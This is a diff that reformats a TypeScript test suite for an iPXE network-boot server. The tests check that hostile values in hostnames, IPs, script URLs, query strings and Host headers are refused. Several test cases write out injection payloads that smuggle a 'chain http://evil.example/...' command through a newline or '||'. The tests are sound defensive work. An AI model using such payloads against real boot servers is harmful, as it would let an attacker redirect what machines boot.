@@ -131,7 +131,12 @@ t.test('every hostile value in every reservation field is refused with 400, stor
       t.equal(create.statusCode, 400, `PUT new machine ${what}: 400`);
 
       for (const contentType of ['application/json', 'application/merge-patch+json']) {
-        const res = await ta.app.inject({ method: 'PATCH', url: path(MAC), headers: { ...ta.auth, 'content-type': contentType }, payload: JSON.stringify(field.set(tail)) });
+        const res = await ta.app.inject({
+          method: 'PATCH',
+          url: path(MAC),
+          headers: { ...ta.auth, 'content-type': contentType },
+          payload: JSON.stringify(field.set(tail)),
+        });
         t.equal(res.statusCode, 400, `PATCH (${contentType}) ${what}: 400 (${res.body.slice(0, 200)})`);
       }
     }
@@ -161,7 +166,12 @@ t.test('a URL may keep & in its query: no whitespace, so iPXE sees one argument'
   // whitespace that would make `&&` a token.
   const ta = await testApp(t);
   const url = `${HUB}&&x=1`;
-  const res = await ta.app.inject({ method: 'PUT', url: path(MAC), headers: ta.auth, payload: { profile: 'assisted', assisted: { ipxeScriptUrl: url }, ip: '10.77.0.50' } });
+  const res = await ta.app.inject({
+    method: 'PUT',
+    url: path(MAC),
+    headers: ta.auth,
+    payload: { profile: 'assisted', assisted: { ipxeScriptUrl: url }, ip: '10.77.0.50' },
+  });
   t.equal(res.statusCode, 201, res.body);
   const script = (await ipxe(ta, `mac=${MAC}`)).body;
   const chain = script.split('\n').find((l) => l.startsWith('chain '));
@@ -174,7 +184,12 @@ t.test('the renderer refuses a value that slipped into the store unchecked', asy
   // must not make the renderer write whitespace-split extra arguments or commands.
   // verifyClient off: a broken ip would otherwise withhold the script before it is rendered.
   const ta = await testApp(t, { config: { boot: { verifyClient: 'off' } } });
-  const put = await ta.app.inject({ method: 'PUT', url: path(MAC), headers: ta.auth, payload: { profile: 'precache-assisted', assisted: { ipxeScriptUrl: HUB }, ip: '10.77.0.50', hostname: 'sno-1' } });
+  const put = await ta.app.inject({
+    method: 'PUT',
+    url: path(MAC),
+    headers: ta.auth,
+    payload: { profile: 'precache-assisted', assisted: { ipxeScriptUrl: HUB }, ip: '10.77.0.50', hostname: 'sno-1' },
+  });
   t.equal(put.statusCode, 201);
   const cases: { name: string; change: (m: Machine) => Machine }[] = [
     { name: 'hostname with newline', change: (m) => ({ ...m, hostname: `sno-1\nchain http://evil.example/${MARK}` }) },
@@ -182,7 +197,10 @@ t.test('the renderer refuses a value that slipped into the store unchecked', asy
     { name: 'hostname with tab', change: (m) => ({ ...m, hostname: `sno-1\t${MARK}` }) },
     { name: 'hostname with ${}', change: (m) => ({ ...m, hostname: `sno-1\${net0/mac}${MARK}` }) },
     { name: 'ip with space', change: (m) => ({ ...m, ip: `10.77.0.50 ${MARK}` }) },
-    { name: 'assisted URL with newline', change: (m) => ({ ...m, state: 'precached', assisted: { ipxeScriptUrl: `${HUB}\nchain http://evil.example/${MARK}` } }) },
+    {
+      name: 'assisted URL with newline',
+      change: (m) => ({ ...m, state: 'precached', assisted: { ipxeScriptUrl: `${HUB}\nchain http://evil.example/${MARK}` } }),
+    },
     { name: 'assisted URL with space', change: (m) => ({ ...m, state: 'precached', assisted: { ipxeScriptUrl: `${HUB} ${MARK}` } }) },
   ];
   for (const c of cases) {
@@ -250,15 +268,32 @@ t.test('hostile query values on /ipxe are dropped; the script stays clean', asyn
     assertClean(t, bad.body, `mac=${JSON.stringify(mac)}`);
   }
   const list = await ta.app.inject({ method: 'GET', url: '/api/v1/machines', headers: ta.auth });
-  t.same(list.json<{ machines: Machine[] }>().machines.map((x) => x.mac), [MAC], 'no machine made from a hostile MAC');
+  t.same(
+    list.json<{ machines: Machine[] }>().machines.map((x) => x.mac),
+    [MAC],
+    'no machine made from a hostile MAC',
+  );
 });
 
 t.test('a hostile Host header is not echoed into scripts; the socket address is used instead', async (t) => {
   const ta = await testApp(t);
-  t.equal((await ta.app.inject({ method: 'PUT', url: path(MAC), headers: ta.auth, payload: { profile: 'assisted', assisted: { ipxeScriptUrl: HUB } } })).statusCode, 201);
+  t.equal(
+    (await ta.app.inject({ method: 'PUT', url: path(MAC), headers: ta.auth, payload: { profile: 'assisted', assisted: { ipxeScriptUrl: HUB } } })).statusCode,
+    201,
+  );
   // app.inject has no real socket: the fallback is 127.0.0.1 and the configured port.
   const fallback = 'http://127.0.0.1:8080';
-  const hosts = [`evil\nchain x`, 'a b', `evil.example/${MARK}`, `evil\${net0/mac}`, `evil.example:80 || chain http://x/${MARK}`, `evil.example#${MARK}`, `evil.example:99999999`, `evil.example;${MARK}`, `[::1]${MARK}`];
+  const hosts = [
+    `evil\nchain x`,
+    'a b',
+    `evil.example/${MARK}`,
+    `evil\${net0/mac}`,
+    `evil.example:80 || chain http://x/${MARK}`,
+    `evil.example#${MARK}`,
+    `evil.example:99999999`,
+    `evil.example;${MARK}`,
+    `[::1]${MARK}`,
+  ];
   for (const host of hosts) {
     const entry = await ta.app.inject({ method: 'GET', url: '/boot.ipxe', headers: { host } });
     t.equal(entry.statusCode, 200, `Host ${JSON.stringify(host)}: the entry script is served`);
